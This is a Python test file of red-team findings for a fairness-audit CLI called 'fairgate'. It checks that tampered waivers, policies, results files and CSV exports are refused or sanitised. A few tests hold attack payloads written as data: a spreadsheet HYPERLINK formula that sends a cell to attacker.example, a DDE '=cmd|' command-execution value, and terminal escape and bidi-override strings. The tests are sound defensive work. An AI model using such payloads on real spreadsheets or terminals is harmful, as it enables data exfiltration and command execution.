"""Hostile inputs for today's features: policies as code, waivers, promotion rules, the
register and ``fairgate diff``. Each case is a finding of the red-team pass, fixed."""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest
import yaml

from .bad_inputs_support import assert_no_release, decision_log, log_spec, run_cli, write_yaml

ROOT = Path(__file__).resolve().parents[1]
UNFAIR = {"a": (300, 0.5, 0.6), "b": (300, 0.5, 0.3)}
WAIVER = {
    "check": 0,
    "reason": "the failure is accepted by the committee for this quarter",
    "approver": "Maria Jensen",
    "date": "2026-01-01",
    "expiry": "2099-12-31",
    "ticket": "FAIR-12",
}


# --- policies ---------------------------------------------------------------------------


def test_a_policy_file_posing_as_a_shipped_policy_is_refused(tmp_path: Path, fairgate) -> None:
    """A user's file named ``eu-ai-act`` with no prohibition would be reported as the EU AI
    Act policy while letting emotion recognition at work through (it exited 0)."""
    shipped = yaml.safe_load((ROOT / "audits/policies/eu-ai-act.yaml").read_text())
    fake = {**shipped, "clauses": [shipped["clauses"][-1]]}  # Annex IV only: no prohibition
    policy = write_yaml(tmp_path / "eu.yaml", fake)
    spec = log_spec(decision_log(tmp_path), policy=[str(policy)], deployment=EMOTIONS_AT_WORK)
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    assert code == 4, err
    assert "name of the shipped policy 'eu-ai-act'" in err
    assert_no_release(out)
    code, _, err = fairgate("explain-policy", policy)
    assert code == 4 and "shipped policy" in err


def test_an_exact_copy_of_a_shipped_policy_is_accepted(tmp_path: Path, fairgate) -> None:
    """The same bytes under another path are the shipped policy (same hash): not refused."""
    copy = tmp_path / "eu-ai-act.yaml"
    shutil.copyfile(ROOT / "audits/policies/eu-ai-act.yaml", copy)
    code, out, err = fairgate("explain-policy", copy)
    assert code == 0, err
    assert "Art. 5(1)(f)" in out


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_policy_spec_or_waivers_file_that_never_ends_is_refused(tmp_path: Path) -> None:
    """``--waivers /dev/zero`` read forever (memory grew without bound); a named pipe as the
    spec or waivers file blocked for ever. Both are refused before they are opened."""
    spec = write_yaml(tmp_path / "spec.yaml", log_spec(decision_log(tmp_path)))
    pipe = tmp_path / "pipe.yaml"
    os.mkfifo(pipe)
    out = ("--no-mlflow", "--out", tmp_path / "o")
    for args in (
        ("run", spec, *out, "--waivers", "/dev/zero"),
        ("run", spec, *out, "--waivers", pipe),
        ("run", pipe, *out),
        ("validate", "/dev/zero"),
    ):
        proc = run_cli(*args, timeout=60)
        assert proc.returncode == 4, proc.stdout + proc.stderr
        assert "not a regular file" in proc.stderr
    assert_no_release(tmp_path / "o")


def test_promotion_rules_from_a_device_are_refused(tmp_path: Path) -> None:
    from audits._promotion import PromotionRulesError, _section

    with pytest.raises(PromotionRulesError, match="not a regular file"):
        _section(Path("/dev/zero"))


# --- waivers ----------------------------------------------------------------------------


def _waived_run(tmp_path: Path, fairgate, **changes: object) -> tuple[int, str, Path]:
    waiver = {**WAIVER, **changes}
    spec = log_spec(decision_log(tmp_path, groups=UNFAIR), waivers=[waiver])
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    return code, err, out


def test_the_waiver_fixture_does_waive(tmp_path: Path, fairgate) -> None:
    """The cases below change one field of a waiver that works."""
    code, err, _ = _waived_run(tmp_path, fairgate)
    assert code == 0, err


@pytest.mark.parametrize(
    ("approver", "words"),
    [
        ("Jane Doe", "placeholder"),
        ("john doe.", "placeholder"),
        ("Max Mustermann", "placeholder"),
        ("First Last", "placeholder"),
        ("The Committee Chair", "not a role"),
        ("Head of Compliance", "not a role"),
        ("Data Science Team", "not a role"),
    ],
)
def test_a_placeholder_approver_does_not_waive(
    tmp_path: Path, fairgate, approver: str, words: str
) -> None:
    """'Jane Doe' or 'The Committee Chair' signed waivers off: a release on nobody's
    authority."""
    code, err, out = _waived_run(tmp_path, fairgate, approver=approver)
    assert code == 4, err
    assert words in err
    assert_no_release(out)


@pytest.mark.parametrize(
    "expiry",
    [4102358400, "4102358400", "2099-12-31T23:00:00-05:00", "2099-12-31T00:00:00Z"],
)
def test_a_waiver_date_must_be_a_calendar_day(tmp_path: Path, fairgate, expiry: object) -> None:
    """A number was read as seconds since 1970 (4102358400 held until 2100), and a time in a
    time zone was cut to its local day, not the UTC day the waiver is judged on."""
    code, err, out = _waived_run(tmp_path, fairgate, expiry=expiry)
    assert code == 4, err
    assert "YYYY-MM-DD" in err
    assert_no_release(out)


# --- the register and diff ----------------------------------------------------------------


@pytest.fixture(scope="module")
def failed_audit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("failed")
    spec = write_yaml(folder / "spec.yaml", log_spec(decision_log(folder, groups=UNFAIR)))
    proc = run_cli("run", spec, "--no-mlflow", "--out", folder / "out")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    return folder / "out"


def _tampered(failed_audit: Path, tmp_path: Path, edit) -> Path:
    document = json.loads((failed_audit / "results.json").read_text())
    edit(document)
    folder = tmp_path / "tampered"
    folder.mkdir()
    (folder / "results.json").write_text(json.dumps(document))
    return folder


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (lambda d: d["run"].__setitem__("audit_id", 12345), "run.audit_id must be a string"),
        (lambda d: d["spec"].__setitem__("name", ["x"]), "spec.name must be a string"),
        (lambda d: d["checks"][0].__setitem__("value", 10**400), "checks[0].value"),
        (lambda d: d["checks"][0].__setitem__("value", float("nan")), "checks[0].value"),
        (lambda d: d["checks"][0].__setitem__("ci", [0.1, 10**400]), "checks[0].ci"),
    ],
)
def test_register_and_diff_refuse_a_document_no_run_writes(
    failed_audit: Path, tmp_path: Path, fairgate, edit, words: str
) -> None:
    """These crashed the register ('fairgate failed: AttributeError / OverflowError', exit 2)
    instead of naming the bad document (exit 4)."""
    tampered = _tampered(failed_audit, tmp_path, edit)
    site = tmp_path / "site"
    code, _, err = fairgate("register", "--evidence", tampered, "--out", site)
    assert code == 4, err
    assert "not a fairgate results document" in err and words in err
    assert not site.exists()
    code, _, err = fairgate("diff", failed_audit, tampered)
    assert code == 4, err
    assert words in err


# --- a deployment that talks its way out of a prohibition -------------------------------

EMOTIONS_AT_WORK = {
    "purpose": "infers the emotions of call-centre staff",
    "practice": "emotion_recognition",
    "context": "workplace",
    "annex_iii": "1(c)",
}
#: What the high-risk requirements (Art. 12, 14, 15) ask a deployment to declare.
DECLARED = {
    "human_oversight": "a supervisor reviews every alert before anyone acts on it",
    "logging": "every alert and the supervisor's decision are kept for two years",
    "accuracy_metrics": ["accuracy"],
}


@pytest.mark.parametrize(
    "reason", ["n/a n/a n/a n/a n/a n/a", "TODO TODO TODO TODO TODO", "xxx xxx xxx xxx xxx xxx"]
)
def test_a_placeholder_medical_reason_does_not_lift_a_prohibition(
    tmp_path: Path, fairgate, reason: str
) -> None:
    """Any 20 characters in 3 words lifted Art. 5(1)(f): 'TODO TODO TODO TODO TODO' turned
    emotion recognition at work into a release (exit 0)."""
    spec = log_spec(
        decision_log(tmp_path),
        policy="eu-ai-act",
        deployment={**EMOTIONS_AT_WORK, "medical_or_safety_reason": reason},
    )
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    assert code == 4, err
    assert "deployment.medical_or_safety_reason" in err and "placeholders" in err
    assert_no_release(out)


def test_a_stated_medical_reason_still_lifts_the_prohibition(tmp_path: Path, fairgate) -> None:
    spec = log_spec(
        decision_log(tmp_path),
        policy="eu-ai-act",
        deployment={
            **EMOTIONS_AT_WORK,
            **DECLARED,
            "medical_or_safety_reason": "fatigue alarms the occupational health service requires",
        },
    )
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", tmp_path / "o"
    )
    assert code == 0, err


@pytest.mark.parametrize(
    ("field", "text"),
    [("reason", "TODO TODO TODO TODO TODO"), ("reason", "n/a n/a n/a n/a n/a n/a n/a")],
)
def test_a_placeholder_waiver_reason_does_not_waive(
    tmp_path: Path, fairgate, field: str, text: str
) -> None:
    code, err, out = _waived_run(tmp_path, fairgate, **{field: text})
    assert code == 4, err
    assert "placeholders" in err
    assert_no_release(out)


def test_a_waiver_of_a_prohibited_use_is_refused(tmp_path: Path, fairgate) -> None:
    """It was accepted and reported 'unused': a reader could think it was tried and is
    merely idle. A prohibition is never waived: the spec is refused."""
    spec = log_spec(
        decision_log(tmp_path),
        policy="eu-ai-act",
        deployment=EMOTIONS_AT_WORK,
        waivers=[{**WAIVER, "check": "Art. 5(1)(f)"}],
    )
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    assert code == 4, err
    assert "prohibited practice is never waived" in err
    assert_no_release(out)


# --- signed models ------------------------------------------------------------------------


def _ecdsa_key(folder: Path) -> tuple[Path, Path]:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1())
    private, public = folder / "key.pem", folder / "key.pub"
    private.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    public.write_bytes(
        key.public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
    )
    return private, public


def test_signing_a_folder_with_a_symlink_names_the_link(tmp_path: Path, fairgate) -> None:
    """It said only 'could not be signed (ValueError)'."""
    private, _ = _ecdsa_key(tmp_path)
    model = tmp_path / "model"
    model.mkdir()
    (model / "weights.bin").write_bytes(b"w" * 64)
    (model / "link.bin").symlink_to("weights.bin")
    code, _, err = fairgate("sign-model", model, "--key", private)
    assert code == 2, err
    assert "link.bin" in err and "symlink" in err


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_signature_that_is_a_pipe_or_folder_is_refused_unread(tmp_path: Path) -> None:
    """A named pipe as model.signature blocked the audit for ever."""
    from audits._model_signature import ModelSignatureError, verify_model_signature

    _, public = _ecdsa_key(tmp_path)
    model = tmp_path / "model.bin"
    model.write_bytes(b"w" * 64)
    pipe = tmp_path / "model.sig"
    os.mkfifo(pipe)
    for signature in (pipe, tmp_path):
        with pytest.raises(ModelSignatureError, match="must be a regular file"):
            verify_model_signature(model=model, signature=signature, public_key=public)


# --- the monitor --------------------------------------------------------------------------


def test_the_monitor_closes_no_breaker_on_a_prohibited_use(tmp_path: Path, fairgate) -> None:
    """The audit refuses emotion recognition at work (exit 3), but the monitor replayed its
    windows and closed the breaker: 'the model decides' (exit 0)."""
    from .monitor_support import monitor_spec, service_log

    log = tmp_path / "service.csv"
    service_log([0.05] * 4).to_csv(log, index=False)
    spec = {
        **monitor_spec(log, trip_on_fairness=True),
        "policy": "eu-ai-act",
        "deployment": EMOTIONS_AT_WORK,
    }
    state, out = tmp_path / "state", tmp_path / "out"
    args = ("--log", log, "--state-dir", state, "--out", out, "--no-mlflow")
    code, stdout, err = fairgate("monitor", write_yaml(tmp_path / "spec.yaml", spec), *args)
    assert code == 3, stdout + err
    assert "prohibited use" in err and "closed" not in stdout
    assert not out.exists()
    # The state a guard reads says open: an earlier "closed" state cannot keep it serving.
    written = json.loads((state / f"{spec['name']}.json").read_text())
    assert written["state"] == "open" and "prohibited use" in written["reason"]
    allowed = {**spec, "deployment": {**EMOTIONS_AT_WORK, "context": "other"}}
    args = ("--log", log, "--state-dir", tmp_path / "fresh", "--out", out, "--no-mlflow")
    code, stdout, err = fairgate("monitor", write_yaml(tmp_path / "ok.yaml", allowed), *args)
    assert code == 0, stdout + err


# --- promotion rules ----------------------------------------------------------------------


def test_rules_for_one_alias_only_do_not_open_the_others(tmp_path: Path) -> None:
    """Rules naming audits only for ``production`` required nothing for any other alias (a
    typo such as 'prodution', or 'staging'): a lenient spec promoted over a strict spec's
    fail. Such an alias now needs every audit of the version, as without rules."""
    from mlflow.tracking import MlflowClient

    from audits._promotion import load_promotion_rules, spec_tag
    from audits._registry_gate import ModelVersionRef, required_audit_problems

    client = MlflowClient(tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")
    client.create_registered_model("m")
    source = tmp_path / "model"
    source.mkdir()
    version = client.create_model_version("m", str(source)).version
    strict = {"verdict": "fail", "exit_code": "1", "model_sha256": "abc", "audit_id": "s-1"}
    for key, value in strict.items():
        client.set_model_version_tag("m", version, spec_tag("strict", key), value)
    rules_file = tmp_path / "fairgate.toml"
    rules_file.write_text('[promotion.aliases.production]\nrequire = ["strict", "lenient"]\n')
    rules = load_promotion_rules(rules_file)
    lenient = {
        "spec": {"name": "lenient"},
        "verdict": "pass",
        "exit_code": 0,
        "provenance": {"model_sha256": "abc"},
        "run": {"audit_id": "l-2"},
    }
    ref = ModelVersionRef(name="m", version=str(version), model_id=None)
    for alias in ("production", "prodution", "staging"):
        problems = required_audit_problems(client, ref, alias, lenient, digest="abc", rules=rules)
        assert any("strict's newest audit" in p and "'fail'" in p for p in problems), alias


# --- the LL144 disclosure CSV -------------------------------------------------------------


def test_the_ll144_csv_holds_no_formula_and_no_small_count(tmp_path: Path, fairgate) -> None:
    """The LL144 CSV wrote its cells as given: a data source (or a column) starting with '='
    was a live formula in a spreadsheet, unlike the transparency CSV's cells."""
    import csv
    import io

    import numpy as np
    import pandas as pd

    rng = np.random.default_rng(3)
    cells = [("F", "a", 300), ("M", "b", 300), ("F", "c", 6)]
    frame = pd.DataFrame(
        [(sex, race) for sex, race, n in cells for _ in range(n)], columns=["sex", "-race"]
    )
    frame["outcome"] = rng.integers(0, 2, len(frame))
    frame["decision"] = rng.integers(0, 2, len(frame))
    frame.to_csv(tmp_path / "log.csv", index=False)
    source = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    spec = log_spec(
        tmp_path / "log.csv",
        policy="nyc-ll144",
        roles={"race_ethnicity": "-race"},
        data={"sensitive": ["sex", "-race"]},
        checks=[],
        deployment={
            "purpose": "ranks applicants for interviews",
            "context": "workplace",
            "data_source": source,
        },
    )
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    assert code in (0, 2), err
    text = (out / "ll144_disclosure.csv").read_text()
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 4
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@"), row
    assert any(cell == "'" + source for row in rows for cell in row)
    assert any(row[0] == "'-race=c" and row[1] == "suppressed" for row in rows), rows
    assert not any(row[1] == "6" for row in rows)


def test_register_out_is_never_the_working_folder(
    failed_audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fairgate
) -> None:
    """``--out .`` in an empty folder tried to rename the working folder away and failed
    with 'fairgate failed: OSError' (exit 2); from inside an earlier register, ``--out`` of
    that register replaced the folder the shell stood in."""
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    code, _, err = fairgate("register", "--evidence", failed_audit, "--out", ".")
    assert code == 4 and "working folder" in err, err
    assert not any(work.iterdir())
    code, _, err = fairgate("register", "--evidence", failed_audit, "--out", "site")
    assert code == 0, err
    monkeypatch.chdir(work / "site" / "systems")
    code, _, err = fairgate("register", "--evidence", failed_audit, "--out", "../../site")
    assert code == 4 and "working folder" in err, err
    assert (work / "site" / "index.html").is_file()


def test_a_deeply_nested_policy_or_spec_is_refused(tmp_path: Path, fairgate) -> None:
    """5,000 nested lists crashed 'fairgate failed: RecursionError' (exit 2) in the YAML
    reader itself, before the nesting guard."""
    deep = "name: " + "[" * 5000 + "]" * 5000 + "\n"
    policy = write_yaml(tmp_path / "deep.yaml", deep)
    code, _, err = fairgate("explain-policy", policy)
    assert code == 4 and "nested too deeply" in err, err
    code, _, err = fairgate("validate", policy)
    assert code == 4 and "nested too deeply" in err, err


def test_the_transparency_csv_quotes_a_formula_behind_a_tab() -> None:
    """A leading tab or carriage return before '=' passed the transparency CSV's check; some
    spreadsheets drop the blank and run the formula."""
    import csv
    import io

    from reports import record_csv

    values = ["\t=cmd|'/c calc'!A1", "\r=1+1", "=2+2", "plain"]
    record = {
        "fields": [
            {"section": "Tier 1", "field": f"f{i}", "value": v, "filled_by": "fairgate (spec)"}
            for i, v in enumerate(values)
        ]
    }
    rows = list(csv.DictReader(io.StringIO(record_csv(record))))
    assert [r["value"] for r in rows] == ["'" + v for v in values[:3]] + ["plain"]


def test_fairness_gating_without_any_evidence_is_no_release(tmp_path: Path, fairgate) -> None:
    """With monitor.trip_on_fairness on and every group under data.min_group_size in every
    window, each fairness check was insufficient_evidence, yet the monitor said 'breaker
    closed: the model decides' (exit 0)."""
    from .monitor_support import monitor_spec, service_log

    log = tmp_path / "service.csv"
    service_log([0.05] * 4).to_csv(log, index=False)
    spec = monitor_spec(log, trip_on_fairness=True)
    args = ("--log", log, "--state-dir", tmp_path / "state", "--no-mlflow")
    spec["data"]["min_group_size"] = 5000
    path = write_yaml(tmp_path / "spec.yaml", spec)
    code, stdout, err = fairgate("monitor", path, *args, "--out", tmp_path / "o1")
    assert code == 2, stdout + err
    assert "trip_on_fairness is on" in stdout and "the model decides" not in stdout
    document = json.loads((tmp_path / "o1" / "monitoring.json").read_text())
    assert document["exit_code"] == 2
    spec["data"]["min_group_size"] = 30  # the same log with groups large enough: judged
    path = write_yaml(tmp_path / "spec.yaml", spec)
    code, stdout, err = fairgate("monitor", path, *args, "--out", tmp_path / "o2")
    assert code == 0, stdout + err


@pytest.fixture(scope="module")
def waived_audit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("waived")
    spec = log_spec(decision_log(folder, groups=UNFAIR), waivers=[WAIVER])
    proc = run_cli(
        "run", write_yaml(folder / "spec.yaml", spec), "--no-mlflow", "--out", folder / "o"
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return folder / "o"


@pytest.mark.parametrize(
    ("edit", "words"),
    [
        (lambda d: d["checks"][0].__setitem__("waived_by", [99]), "waived_by names no waiver"),
        (lambda d: d["checks"][0].__setitem__("waived_by", []), "waived_by names no waiver"),
        (lambda d: d["checks"][0].__setitem__("threshold", "x"), "threshold is not a mapping"),
    ],
)
def test_render_refuses_a_hand_edited_waived_document(
    waived_audit: Path, tmp_path: Path, fairgate, edit, words: str
) -> None:
    """These crashed render ('fairgate failed: IndexError / AttributeError', exit 2)."""
    code, _, err = fairgate("render", waived_audit / "results.json", "--out", tmp_path / "r0")
    assert code == 0, err
    tampered = _tampered(waived_audit, tmp_path, edit)
    code, _, err = fairgate("render", tampered / "results.json", "--out", tmp_path / "r1")
    assert code == 4, err
    assert words in err
    assert not (tmp_path / "r1").exists()


def test_two_roles_cannot_share_one_column(tmp_path: Path, fairgate) -> None:
    """roles {sex: group, race_ethnicity: group} passed as an LL144 audit of sex, race and
    their intersection (exit 0) while it looked at one column three times."""
    spec = log_spec(
        decision_log(tmp_path),
        policy="nyc-ll144",
        roles={"sex": "group", "race_ethnicity": "group"},
        checks=[],
    )
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    assert code == 4, err
    assert "columns of their own" in err and "'sex' and 'race_ethnicity'" in err
    assert_no_release(out)


def test_a_policy_with_a_clause_id_twice_is_refused(tmp_path: Path, fairgate) -> None:
    """Two clauses 'MC-1': a waiver of 'MC-1' was refused as ambiguous only at run time, and
    the report listed two different clauses under one citation."""
    policy = yaml.safe_load((ROOT / "audits/policies/municipal-microcredit.yaml").read_text())
    policy["name"] = "own-microcredit"
    policy["clauses"][1]["id"] = policy["clauses"][0]["id"]
    path = write_yaml(tmp_path / "own.yaml", policy)
    code, _, err = fairgate("explain-policy", path)
    assert code == 4, err
    assert "appear twice" in err and repr(policy["clauses"][0]["id"]) in err


def test_sign_model_never_writes_over_the_model_the_key_or_another_file(
    tmp_path: Path, fairgate
) -> None:
    """--signature named the model file itself and the model was replaced by its signature
    (then 'does not match'); any other existing file was overwritten without a word."""
    private, _ = _ecdsa_key(tmp_path)
    model = tmp_path / "model.bin"
    model.write_bytes(b"weights" * 10)
    notes = tmp_path / "notes.txt"
    notes.write_text("the committee's notes\n")
    for target, words in ((model, "the model itself"), (private, "the key itself")):
        before = target.read_bytes()
        code, _, err = fairgate("sign-model", model, "--key", private, "--signature", target)
        assert code == 2 and words in err, err
        assert target.read_bytes() == before
    code, _, err = fairgate("sign-model", model, "--key", private, "--signature", notes)
    assert code == 2 and "is not a signature" in err, err
    assert notes.read_text() == "the committee's notes\n"
    signature = tmp_path / "model.sig"
    for _ in range(2):  # an earlier signature is replaced
        code, _, err = fairgate("sign-model", model, "--key", private, "--signature", signature)
        assert code == 0, err


def test_explain_policy_prints_no_terminal_escape(tmp_path: Path, fairgate) -> None:
    """A policy file's title and clause text reached the terminal raw: an escape sequence
    could retitle the window or clear the screen, a bidi override reverse a line."""
    policy = yaml.safe_load((ROOT / "audits/policies/municipal-microcredit.yaml").read_text())
    policy["name"] = "own-escapes"
    policy["title"] = "Own policy \x1b]0;owned\x07\x1b[2J title"
    policy["clauses"][0]["text"] = "The clause text \u202e reversed \x1b[31m in red here"
    code, out, err = fairgate("explain-policy", write_yaml(tmp_path / "own.yaml", policy))
    assert code == 0, err
    assert "Own policy" in out and "reversed" in out
    assert not any(c in out for c in ("\x1b", "\x07", "\u202e"))


@pytest.mark.parametrize(
    ("practice", "point"),
    [("emotion_recognition", None), ("creditworthiness", None), ("creditworthiness", "3(a)")],
)
def test_a_high_risk_practice_must_declare_its_annex_iii_point(
    tmp_path: Path, fairgate, practice: str, point: str | None
) -> None:
    """Creditworthiness scoring with annex_iii left out skipped every high-risk requirement
    (bias examination, accuracy metrics, oversight, logging) and was released (exit 0)."""
    deployment = {"purpose": "scores applications for loans", "practice": practice}
    spec = log_spec(
        decision_log(tmp_path),
        policy="eu-ai-act",
        deployment={**deployment, "context": "credit", "annex_iii": point},
    )
    out = tmp_path / "out"
    code, _, err = fairgate(
        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
    )
    assert code == 4, err
    assert "deployment.annex_iii must be" in err and practice in err
    assert_no_release(out)


def test_an_ll144_audit_of_a_folder_of_parquet_files(tmp_path: Path, fairgate) -> None:
    """A folder is streamed, and the streamed pass holds no rows: the impact ratios failed
    with 'IndexError: boolean index did not match' (exit 2) and no disclosure table. The
    folder is now read in memory and gives the table the single file gives."""
    import pandas as pd

    log = decision_log(tmp_path, groups={"a": (300, 0.5, 0.5), "b": (300, 0.5, 0.45)})
    frame = pd.read_csv(log)
    frame["sex"] = ["F", "M"] * (len(frame) // 2)
    folder = tmp_path / "log"
    folder.mkdir()
    frame.iloc[:250].to_parquet(folder / "part-0.parquet")
    frame.iloc[250:].to_parquet(folder / "part-1.parquet")
    frame.to_csv(log, index=False)
    tables = []
    for path in (log, folder):
        spec = log_spec(
            path,
            policy="nyc-ll144",
            roles={"race_ethnicity": "group"},
            data={"sensitive": ["sex", "group"]},
            checks=[],
        )
        out = tmp_path / f"out-{path.name}"
        code, _, err = fairgate(
            "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
        )
        assert code == 0, err
        text = (out / "ll144_disclosure.csv").read_text()
        tables.append([line.rsplit(",", 1)[0] for line in text.splitlines()])  # not the source
    assert len(tables[0]) > 6 and tables[0] == tables[1]


@pytest.mark.parametrize("check", [True, 1.0, -1])
def test_a_waiver_names_its_check_by_index_or_name_only(
    tmp_path: Path, fairgate, check: object
) -> None:
    """'check: true' waived check 1 (a bool read as 1), and 1.0 was index 1."""
    code, err, out = _waived_run(tmp_path, fairgate, check=check)
    assert code == 4, err
    assert "check's index" in err
    assert_no_release(out)


def test_ll144_tables_of_a_document_without_a_data_block() -> None:
    """A document without 'data' (hand-made, or an older one) crashed the Markdown summary
    with KeyError: 'data' before any rendering."""
    from reports._policy_report import ll144_tables

    check = {
        "type": "impact_ratio",
        "view": "sex",
        "by_group": {
            "sex=F": {"n": 200, "numerator": 90, "value": 0.45, "status": "highest"},
            "sex=M": {"n": 200, "numerator": 80, "value": 0.40, "status": "compared"},
        },
        "details": {"highest_group": "sex=F", "lowest_group": "sex=M", "unknown_count": 0},
    }
    (table,) = ll144_tables({"checks": [check], "run": {"started_at": "2026-11-29T10:00:00Z"}})
    assert table["data_source"] == "" and table["audit_date"] == "2026-11-29"


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_results_that_never_end_or_nest_too_deep_are_refused(
    failed_audit: Path, tmp_path: Path, fairgate
) -> None:
    """render, diff and register read /dev/zero or a named pipe for ever, and a results.json
    of 100,000 nested lists crashed them with RecursionError (exit 2)."""
    pipe = tmp_path / "results.json"
    os.mkfifo(pipe)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    for bad, words in ((pipe, "not a regular file"), ("/dev/zero", "not a regular file")):
        code, _, err = fairgate("render", bad, "--out", tmp_path / "r")
        assert code == 4 and words in err, err
    for bad in (pipe, deep):
        words = "nested too deeply" if bad == deep else "not a regular file"
        code, _, err = fairgate("diff", failed_audit, bad)
        assert code == 4 and words in err, err
        code, _, err = fairgate("register", "--evidence", bad, "--out", tmp_path / "s")
        assert code == 4 and words in err, err
        code, _, err = fairgate("render", bad, "--out", tmp_path / "r")
        assert code == 4 and words in err, err
    assert not (tmp_path / "r").exists() and not (tmp_path / "s").exists()


def test_the_register_shows_a_strict_spec_s_fail_behind_a_later_pass(tmp_path: Path) -> None:
    """The register's 'model in service' line showed the version's un-namespaced
    fairgate.verdict: a lenient spec's later 'pass' hid the strict spec's 'fail' on the same
    version, which promotion itself refuses."""
    from mlflow.tracking import MlflowClient

    from audits._promotion import spec_tag
    from audits._register import _registry

    client = MlflowClient(tracking_uri=f"sqlite:///{tmp_path / 'mlflow.db'}")
    client.create_registered_model("m")
    source = tmp_path / "model"
    source.mkdir()
    version = client.create_model_version("m", str(source)).version
    tags = {
        spec_tag("strict", "verdict"): "fail",
        spec_tag("lenient", "verdict"): "pass",
        "fairgate.verdict": "pass",  # the lenient audit ran last
    }
    for key, value in tags.items():
        client.set_model_version_tag("m", version, key, value)
    registry = _registry(client, "models:/m/1")
    assert registry is not None
    assert registry["versions"][str(version)]["verdict"] == "fail (strict)"
    client.set_model_version_tag("m", version, spec_tag("strict", "verdict"), "pass_with_waivers")
    assert _registry(client, "models:/m/1")["versions"][str(version)]["verdict"] == "pass"


def test_a_thin_window_s_message_shows_no_small_count(tmp_path: Path, fairgate) -> None:
    """'the window has 3 reviewed decision(s)' went into monitoring.json and report.html: a
    count under 11, against the disclosure rule."""
    from .monitor_support import monitor_spec, service_log

    log = service_log([0.05] * 3, per_window=400, reviewed=0.005, seed=4)
    path = tmp_path / "service.csv"
    log.to_csv(path, index=False)
    spec = monitor_spec(path, trip_on_fairness=True, min_cases=50)
    out = tmp_path / "out"
    args = ("--log", path, "--state-dir", tmp_path / "state", "--no-mlflow", "--out", out)
    code, stdout, err = fairgate("monitor", write_yaml(tmp_path / "spec.yaml", spec), *args)
    assert code == 2, stdout + err
    document = json.loads((out / "monitoring.json").read_text())
    messages = [c["message"] for w in document["windows"] for c in w["checks"]]
    assert messages and all("fewer than 11 reviewed decision(s)" in m for m in messages)
    html = (out / "report.html").read_text()
    assert not re.search(r"has \d+ reviewed decision", html + json.dumps(document))
